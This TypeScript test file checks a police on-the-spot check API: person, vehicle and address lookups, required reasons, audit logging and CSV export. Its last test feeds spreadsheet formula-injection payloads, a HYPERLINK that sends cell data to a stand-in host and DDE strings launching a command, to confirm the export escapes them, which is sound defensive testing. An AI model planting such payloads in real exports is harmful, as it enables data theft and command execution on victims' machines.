/**
 * On-the-spot checks over HTTP on SQLite and PostgreSQL: every name-matching case ranks the right
 * person first through the API as it does in the shared module; vehicle misreads and address
 * lookups; a reason is required; each check leaves one audit record that supervisors can filter
 * and export, and officers read only their own; offline check records are stored once.
 */
import { randomUUID } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AuditRecord, PersonCheckResponse } from '../../shared/api/checks.ts'
import { casePeople, matchCases } from '../../shared/matching/cases.ts'
import { upsertPeople } from '../importers/people.ts'
import { verifyAuditChain } from '../store/audit.ts'
import { createTestApp, type TestApp } from '../testing/app.ts'
import { forEachStore } from '../testing/stores.ts'

const reason = { code: 'stop_account', text: 'stopped near the station' }

forEachStore('on-the-spot checks', (kind) => {
  let t: TestApp
  const cookies: Record<string, Record<string, string>> = {}

  beforeAll(async () => {
    t = await createTestApp(kind)
    await upsertPeople(t.store.db, t.store.dialect, casePeople.map((p) => ({
      id: p.id, surname: p.surname, forenames: p.forenames, dob: p.dob!, aliases: p.aliases ? [...p.aliases] : undefined,
      warningMarkers: p.id === 'MC01' ? ['violence'] : [], description: { heightCm: 180, marks: ['scar left cheek'] }, addressId: p.id === 'MC01' ? 'A1' : undefined,
    })))
    const now = new Date().toISOString()
    await t.store.db.insertInto('addresses').values([
      { id: 'A1', line1: '12 Corporation Street', line2: null, town: 'Birmingham', postcode: 'B4 6QB', lat: 52.48, lng: -1.89, areaId: 'test-area', warnings: JSON.stringify([{ code: 'dog', label: 'Dangerous dog' }]), updatedAt: now },
      { id: 'A2', line1: '3 Broad Street', line2: null, town: 'Birmingham', postcode: 'B1 2HF', lat: 52.47, lng: -1.91, areaId: 'test-area', warnings: '[]', updatedAt: now },
    ]).execute()
    await t.store.db.insertInto('vehicles').values([
      { id: 'V1', vrm: 'AB12 CDE', make: 'Ford', model: 'Focus', colour: 'Blue', keeperPersonId: 'MC01', markers: JSON.stringify([{ code: 'stolen', label: 'Stolen' }]), updatedAt: now },
      { id: 'V2', vrm: 'A812 CDE', make: 'Vauxhall', model: 'Corsa', colour: 'Red', keeperPersonId: null, markers: '[]', updatedAt: now },
      { id: 'V3', vrm: 'SO51 ABC', make: 'BMW', model: '320d', colour: 'Black', keeperPersonId: null, markers: '[]', updatedAt: now },
    ]).execute()
    for (const collar of ['1001', '1002', '2001', '3001']) cookies[collar] = await t.signIn(collar)
  })
  afterAll(() => t.close())

  const post = (url: string, collar: string, payload: unknown) => t.app.inject({ method: 'POST', url, cookies: cookies[collar], payload: payload as object })
  const get = (url: string, collar: string) => t.app.inject({ method: 'GET', url, cookies: cookies[collar] })

  describe('person checks', () => {
    it.each(matchCases)('$name: the right person ranks first', async ({ query, expect: id }) => {
      const response = await post('/api/checks/person', '1001', { ...query, forenames: query.forenames ?? undefined, dob: query.dob ?? undefined, reason })
      expect(response.statusCode).toBe(200)
      const body = response.json<PersonCheckResponse>()
      expect(body.candidates[0]?.personId).toBe(id)
    })

    it('answers identity details with each candidate: photo, marks, warnings, wanted, conditions', async () => {
      const body = (await post('/api/checks/person', '1001', { surname: 'Smith', forenames: 'William', dob: '1980-03-12', reason })).json<PersonCheckResponse>()
      expect(body.checkId).toMatch(/^[0-9a-f-]{36}$/)
      expect(body.candidates.length).toBeLessThanOrEqual(20)
      expect(body.candidates[0]).toMatchObject({
        personId: 'MC01', score: 1, surname: 'Smith', forenames: 'William James', dob: '1980-03-12', matchedOn: ['surname', 'forename', 'dob'],
        warningMarkers: ['violence'], wanted: null, conditions: [], description: { heightCm: 180, marks: ['scar left cheek'] },
      })
      expect(body.candidates[0]).toHaveProperty('photoUrl')
    })

    it('refuses a check without a reason, with an unknown reason, or with an impossible date', async () => {
      const missing = await post('/api/checks/person', '1001', { surname: 'Smith' })
      expect(missing.statusCode).toBe(400)
      expect(missing.json()).toMatchObject({ error: { code: expect.any(String), message: expect.stringContaining('reason') } })
      expect((await post('/api/checks/person', '1001', { surname: 'Smith', reason: { code: 'curiosity' } })).json()).toMatchObject({ error: { code: 'unknown_reason' } })
      expect((await post('/api/checks/person', '1001', { surname: 'Smith', dob: '1980-02-30', reason })).json()).toMatchObject({ error: { code: 'invalid_dob' } })
      expect((await post('/api/checks/person', '1001', { surname: 'Smith', dob: '12/03/1980', reason })).statusCode).toBe(400)
      expect((await post('/api/checks/person', '1001', { surname: '', reason })).statusCode).toBe(400)
    })

    it('refuses checks by analysts and admins', async () => {
      expect((await post('/api/checks/person', '3001', { surname: 'Smith', reason })).statusCode).toBe(403)
      cookies['4001'] ??= await t.signIn('4001')
      expect((await post('/api/checks/person', '4001', { surname: 'Smith', reason })).statusCode).toBe(403)
    })
  })

  it('checks a vehicle by plate with spacing, case and misreads, exact first, with keeper and markers', async () => {
    const body = (await post('/api/checks/vehicle', '1001', { vrm: 'ab12cde', reason })).json<{ candidates: { vehicleId: string; exact: boolean; keeper: { personId: string } | null; markers: unknown[] }[] }>()
    expect(body.candidates.map((c) => [c.vehicleId, c.exact])).toEqual([['V1', true], ['V2', false]])
    expect(body.candidates[0]).toMatchObject({ keeper: { personId: 'MC01', relation: 'keeper', warningMarkers: ['violence'] }, markers: [{ code: 'stolen', label: 'Stolen' }] })
    const misread = (await post('/api/checks/vehicle', '1001', { vrm: '5O51 A8C', reason })).json<{ candidates: { vehicleId: string; exact: boolean }[] }>()
    expect(misread.candidates).toMatchObject([{ vehicleId: 'V3', exact: false }])
  })

  it('checks an address by postcode or street, with warnings and occupants', async () => {
    const byPostcode = (await post('/api/checks/address', '1001', { query: 'b46qb', reason })).json<{ candidates: { addressId: string; warnings: unknown[]; occupants: { personId: string }[] }[] }>()
    expect(byPostcode.candidates).toMatchObject([{ addressId: 'A1', warnings: [{ code: 'dog', label: 'Dangerous dog' }], occupants: [{ personId: 'MC01' }] }])
    const byStreet = (await post('/api/checks/address', '1001', { query: 'broad st', reason })).json<{ candidates: { addressId: string }[] }>()
    expect(byStreet.candidates.map((c) => c.addressId)).toEqual(['A2'])
  })

  it('serves the reasons list', async () => {
    const body = (await get('/api/checks/reasons', '1001')).json<{ reasons: { code: string; label: string }[] }>()
    expect(body.reasons).toContainEqual({ code: 'stop_account', label: 'Stop and account' })
  })

  describe('audit', () => {
    it('records each check once with officer, reason, query, result count and online; officers read only their own', async () => {
      const check = (await post('/api/checks/person', '1002', { surname: 'Taylor', forenames: 'Liz', reason: { code: 'welfare', text: 'found sitting in the road' } })).json<PersonCheckResponse>()
      const mine = (await get('/api/audit?limit=500', '1002')).json<{ records: AuditRecord[] }>()
      const record = mine.records.find((r) => r.subjectKind === 'person-check')
      expect(record).toMatchObject({ collarNumber: '1002', action: 'consult', subjectId: check.candidates[0]!.personId, reasonCode: 'welfare', reasonText: 'found sitting in the road', online: true, resultCount: check.candidates.length })
      expect(record!.summary).toContain('Taylor Liz')
      expect(mine.records.every((r) => r.collarNumber === '1002')).toBe(true)
      // An officer asking for someone else's records still gets only their own.
      const other = (await get('/api/audit?officer=1001', '1002')).json<{ records: AuditRecord[] }>()
      expect(other.records.every((r) => r.collarNumber === '1002')).toBe(true)
    })

    it('stores offline check records once however often they are replayed', async () => {
      const record = { checkId: randomUUID(), at: '2026-11-20T22:15:00.000Z', kind: 'person', query: { surname: 'Hussein' }, reason, resultIds: ['MC05'] }
      expect((await post('/api/audit/checks', '1001', { records: [record] })).json()).toEqual({ stored: 1 })
      expect((await post('/api/audit/checks', '1001', { records: [record] })).json()).toEqual({ stored: 0 })
      const page = (await get('/api/audit?subject=MC05&officer=1001', '2001')).json<{ records: AuditRecord[] }>()
      expect(page.records.filter((r) => r.online === false)).toMatchObject([{ at: '2026-11-20T22:15:00.000Z', subjectKind: 'person-check', reasonCode: 'stop_account', resultCount: 1 }])
      expect((await post('/api/audit/checks', '1001', { records: [{ ...record, checkId: randomUUID(), reason: { code: 'nosy' } }] })).statusCode).toBe(400)
    })

    it('lets supervisors filter by officer, subject, reason and date, page, and export CSV', async () => {
      const byReason = (await get('/api/audit?reason=welfare', '2001')).json<{ records: AuditRecord[] }>()
      expect(byReason.records.length).toBeGreaterThan(0)
      expect(byReason.records.every((r) => r.reasonCode === 'welfare')).toBe(true)
      const bySubject = (await get('/api/audit?subject=MC01', '2001')).json<{ records: AuditRecord[] }>()
      expect(bySubject.records.length).toBeGreaterThan(0)
      const future = (await get('/api/audit?from=2099-01-01', '2001')).json<{ records: AuditRecord[] }>()
      expect(future.records).toEqual([])
      const first = (await get('/api/audit?limit=2', '2001')).json<{ records: AuditRecord[]; nextBefore: number }>()
      expect(first.records).toHaveLength(2)
      const second = (await get(`/api/audit?limit=2&before=${first.nextBefore}`, '2001')).json<{ records: AuditRecord[] }>()
      // The next page starts strictly after the last record of the first: nothing repeated or skipped.
      expect(first.nextBefore).toBe(first.records[1]!.id)
      expect(second.records[0]!.id).toBeLessThan(first.records[1]!.id)
      expect((await get('/api/audit?subject=bad%20id', '2001')).statusCode).toBe(400)

      const csv = await get('/api/audit/export.csv?officer=1002', '2001')
      expect(csv.statusCode).toBe(200)
      expect(csv.headers['content-type']).toContain('text/csv')
      const lines = csv.body.trim().split('\n')
      expect(lines[0]).toBe('id,at,officer,action,subject_kind,subject_id,reason,reason_text,online,result_count,device,summary')
      expect(lines.slice(1).every((line) => line.split(',')[2] === '1002')).toBe(true)
      expect(csv.body).toContain('found sitting in the road')
      expect((await get('/api/audit/export.csv', '1001')).statusCode).toBe(403)
      // Reading and exporting the log are audited too, and the chain still verifies.
      const reads = (await get('/api/audit?officer=2001&limit=500', '2001')).json<{ records: AuditRecord[] }>()
      expect(reads.records.map((r) => r.action)).toContain('export')
      expect(await verifyAuditChain(t.store.db)).toMatchObject({ ok: true })
    })

    it('exports typed text a spreadsheet would run as a formula as inert text (OWASP CSV injection)', async () => {
      const formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1']
      for (const text of formulas) {
        expect((await post('/api/checks/person', '1002', { surname: '=Formula', forenames: 'Test', reason: { code: 'welfare', text } })).statusCode).toBe(200)
      }
      const csv = await get('/api/audit/export.csv?officer=1002', '2001')
      const rows = parse(csv.body, { columns: true }) as Record<string, string>[]
      const exported = rows.map((r) => r.reason_text)
      for (const text of formulas) expect(exported).toContain(`'${text}`)
      // No cell of any record starts as a formula would, whoever typed it.
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      expect(rows.some((r) => r.summary.includes('=Formula'))).toBe(true)
      // The stored text is what the officer typed; only the export is escaped.
      const stored = (await get('/api/audit?officer=1002&limit=500', '2001')).json<{ records: AuditRecord[] }>().records.map((r) => r.reasonText)
      for (const text of formulas) expect(stored).toContain(text)
    })
  })
})
